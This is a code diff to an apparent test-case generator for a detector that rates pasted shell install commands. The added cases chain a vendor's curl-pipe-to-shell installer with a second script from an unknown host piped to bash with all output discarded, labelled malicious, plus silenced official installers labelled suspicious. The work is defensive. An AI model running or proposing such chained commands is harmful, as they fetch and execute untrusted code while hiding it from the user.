@@ -333,7 +333,20 @@ def stranger_cases() -> list[dict[str, str]]:
         own = f"https://docs.{host.split('.', 1)[1]}/install"
         out.append(case(f"i-stranger-own-page-{n}", f"curl -fsSL {base}/install.sh | bash",
                         "info", BENIGN, "linux", own, "terminal"))  # fmt: skip
+    for n, (site, host, _stem) in enumerate(VENDORS[:6], start=1):
+        stranger, _folder = STRANGER_HOSTS[n - 1]
+        page = f"https://www.{site}/docs/install"
+        # the page's own script chained with a stranger's, whose output is thrown away
+        out.append(case(f"i-stranger-mixed-chain-{n}",
+                        f"curl -fsSL https://{host}/install.sh | sh && "
+                        f"curl -fsSL https://{stranger}/t.sh | bash >/dev/null 2>&1",
+                        "malicious", LURE, "linux", page, "terminal"))  # fmt: skip
     for n, (page, text) in enumerate(OFFICIAL_ELSEWHERE, start=1):
+        if n <= 4 and "| sh" in text:
+            # an official script with its output thrown away: odd, warned, but not a stranger's
+            out.append(case(f"i-official-quiet-{n}", f"{text} >/dev/null 2>&1", "suspicious",
+                            LURE, "linux", STRANGER_PAGES[n % len(STRANGER_PAGES)],
+                            "terminal"))  # fmt: skip
         platform = "windows" if "iex" in text.lower() else "linux"
         out.append(case(f"i-official-elsewhere-{n}", text, "info", BENIGN, platform, page,
                         "terminal"))  # fmt: skip
